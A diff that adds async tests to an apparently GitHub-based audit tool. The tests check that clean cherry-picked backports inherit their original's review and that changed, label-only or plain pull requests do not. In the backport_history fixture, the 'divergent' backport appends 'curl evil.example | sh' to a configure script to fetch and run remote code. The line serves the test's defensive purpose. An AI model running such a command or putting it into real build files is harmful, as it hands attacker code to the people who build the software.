@@ -377,6 +377,181 @@ async def test_branch_chooses_the_audited_branches(fake_github: FakeGitHub):
 
 
 # ---------------------------------------------------------------------------------------------
+# Backports
+# ---------------------------------------------------------------------------------------------
+
+CONFIGURE = "#!/bin/sh\necho 3.12\n"
+FIXED = CONFIGURE + "echo fixed\n"
+FILES = "GET /repos/{owner}/{repo}/pulls/{pull_number}/files"
+
+
+def with_original(fake: FakeGitHub, policy: str | None = None) -> tuple[Any, Any]:
+    """The maintenance branch 3.12 (protected, so audited), made from main before a build fix that
+    bob and carol reviewed was merged into main."""
+    repo = make_repo(fake, policy, files={"configure": CONFIGURE})
+    repo.create_branch("3.12")
+    repo.protect("3.*")
+    original = repo.open_pull(author="alice", title="Fix configure", files={"configure": FIXED})
+    original.review("bob", "APPROVED")
+    original.review("carol", "APPROVED")
+    original.merge(by="alice", method="squash")
+    return repo, original
+
+
+def backport(repo: Any, original: Any, content: str = FIXED, **options: Any) -> Any:
+    """A backport into 3.12 that dave opens (its body carries the cherry-pick line of
+    ``git cherry-pick -x``), merged by him without review."""
+    body = f"(cherry picked from commit {original.merge_commit_sha})"
+    pr = repo.open_pull(
+        author="dave",
+        base="3.12",
+        title=options.pop("title", "Fix configure for 3.12"),
+        body=options.pop("body", body),
+        files={"configure": content},
+        **options,
+    )
+    pr.merge(by="dave")
+    return pr
+
+
+def backport_history(fake: FakeGitHub) -> dict[str, Any]:
+    """A reviewed original on main; on 3.12 a clean backport named only by the cherry-pick line in
+    its body, a divergent one in cherry_picker's shape, a pull request labelled as a backport that
+    names no original, an ordinary pull request, and a direct push of a clean cherry-pick."""
+    repo, original = with_original(fake, "backports:\n  labels: [backport]\n")
+    clean = backport(repo, original)
+    divergent = backport(
+        repo,
+        original,
+        FIXED + "curl evil.example | sh\n",
+        title=f"[3.12] Fix configure (GH-{original.number})",
+    )
+    labelled = backport(repo, original, title="Fix configure again", body="", labels=["backport"])
+    plain = repo.open_pull(author="dave", base="3.12", title="Docs", files={"docs.txt": "x\n"})
+    plain.review("bob", "APPROVED")
+    plain.merge(by="dave")
+    # undone by hand, then pushed again as a cherry-pick
+    undone = repo.push(
+        "3.12", [{"message": "Undo", "files": {"configure": CONFIGURE}}], pusher="dave"
+    )
+    message = f"Fix configure\n\n(cherry picked from commit {original.merge_commit_sha})"
+    pushed = repo.push(
+        "3.12",
+        [{"message": message, "files": {"configure": FIXED}, "author": "dave"}],
+        pusher="dave",
+    )
+    return {
+        "repo": repo,
+        "original": original,
+        "clean": clean,
+        "divergent": divergent,
+        "labelled": labelled,
+        "plain": plain,
+        "undone": undone,
+        "pushed": pushed,
+    }
+
+
+async def test_a_clean_backport_inherits_its_originals_review_a_divergent_one_does_not(
+    fake_github: FakeGitHub,
+):
+    made = backport_history(fake_github)
+    n = made["original"].number
+    changes = by_key(await audit_json(fake_github))
+    assert changes[f"pr-{n}"]["status"] == "reviewed"
+    assert changes[f"pr-{n}"]["backport"] is None  # on the default branch: never a candidate
+    clean = changes[f"pr-{made['clean'].number}"]
+    assert (clean["status"], clean["conclusion"], clean["rules"]) == ("reviewed", "success", [])
+    assert clean["backport"] == {
+        "of": [n],
+        "clean": True,
+        "refused": None,
+        "inherited": ["review", "build-system"],
+        "reviewers": ["bob", "carol"],
+    }
+    divergent = changes[f"pr-{made['divergent'].number}"]
+    assert divergent["status"] == "unreviewed" and "build-system" in divergent["rules"]
+    assert (divergent["backport"]["of"], divergent["backport"]["clean"]) == ([n], False)
+    assert (divergent["backport"]["refused"], divergent["backport"]["inherited"]) == (None, [])
+    labelled = changes[f"pr-{made['labelled'].number}"]
+    assert labelled["status"] == "unreviewed" and labelled["backport"]["of"] == []
+    assert "labelled as a backport" in labelled["backport"]["refused"]
+    assert changes[f"pr-{made['plain'].number}"]["backport"] is None
+    # a direct push of a clean cherry-pick is recognised as the App recognises it
+    pushed = changes[f"push-3.12-{made['pushed'].after}"]
+    assert pushed["backport"]["of"] == [n] and pushed["backport"]["clean"] is True
+    assert pushed["conclusion"] == "success"
+    assert changes[f"push-3.12-{made['undone'].after}"]["backport"] is None
+    assert writes(fake_github) == []
+
+
+async def test_the_table_and_markdown_say_which_changes_are_backports(fake_github: FakeGitHub):
+    made = backport_history(fake_github)
+    n = made["original"].number
+    status, out, err = await audit(fake_github)
+    assert (status, err) == (0, "")
+    rows = out.splitlines()
+    row = next(line for line in rows if f"#{made['divergent'].number} " in line)
+    assert "Unreviewed" in row and f"backport of #{n} with changes" in row
+    row = next(line for line in rows if f"#{made['labelled'].number} " in line)
+    assert "not a backport: it is labelled as a backport" in row
+    # the clean backport is reviewed (so not in the table), and listed with the backports
+    listed = rows[rows.index("Backports:") :]
+    assert f"  #{made['clean'].number} into 3.12: clean backport of #{n} (Reviewed)" in "\n".join(
+        listed
+    )
+    assert not any(f"#{made['plain'].number} " in line for line in listed)
+
+    status, out, _ = await audit(fake_github, "--format", "markdown")
+    assert status == 0
+    text = out.replace("\u2060", "").replace("\\#", "#")  # escaped: #12 references nothing
+    assert "| rules | backport |" in text
+    row = next(line for line in text.splitlines() if f"/pull/{made['divergent'].number})" in line)
+    assert row.startswith("| [") and row.endswith(f"| backport of #{n} with changes |")
+    section = text[text.index("### Backports") :]
+    assert f"into 3\\.12: clean backport of #{n} (Reviewed)" in section
+
+
+async def test_a_recorded_backport_stands_with_what_its_record_says(bot: Bot):
+    fake = bot.fake
+    repo, original = with_original(fake)
+    await bot.deliver(fake.webhooks.pull_request(original, "closed"))
+    pr = backport(repo, original)
+    assert await bot.deliver(fake.webhooks.pull_request(pr, "closed")) == 202
+    fake.reset_counts()
+    change = by_key(await audit_json(fake, GITHUB_APP_ID=str(fake.app_id)))[f"pr-{pr.number}"]
+    assert change["recorded"] is True and change["status"] == "reviewed"
+    assert change["backport"]["of"] == [original.number] and change["backport"]["clean"]
+    assert change["backport"]["inherited"] == ["review", "build-system"]
+    assert fake.count(FILES) == 0  # the record stands: nothing is compared again
+
+
+async def test_a_backport_costs_one_query_and_the_file_lists(bot: Bot):
+    fake = bot.fake
+    repo, original = with_original(fake)
+    await bot.deliver(fake.webhooks.pull_request(original, "closed"))  # the App records it
+    plain = repo.open_pull(author="dave", base="3.12", title="Docs", files={"docs.txt": "x\n"})
+    plain.review("bob", "APPROVED")
+    plain.merge(by="dave")
+
+    async def cost(**env: str) -> tuple[int, int, int]:
+        fake.reset_counts()
+        changes = by_key(await audit_json(fake, **env)).values()
+        assert not any(c["recorded"] for c in changes if c["branch"] == "3.12")  # judged afresh
+        return fake.count(), fake.count(GRAPHQL), fake.count(FILES)
+
+    app = {"GITHUB_APP_ID": str(fake.app_id)}
+    before, before_fresh = await cost(**app), await cost()
+    # a pull request that is no candidate costs nothing: the repository, the page, no file list
+    assert before[1:] == before_fresh[1:] == (2, 0)
+    backport(repo, original)  # merged without the App seeing it
+    # the originals (one GraphQL query) and the file lists of the backport and the original
+    assert await cost(**app) == (before[0] + 3, before[1] + 1, 2)
+    # without the original's record, the original is read as the App reads one: one more query
+    assert await cost() == (before_fresh[0] + 4, before_fresh[1] + 2, 2)
+
+
+# ---------------------------------------------------------------------------------------------
 # Formats and exit status
 # ---------------------------------------------------------------------------------------------
 
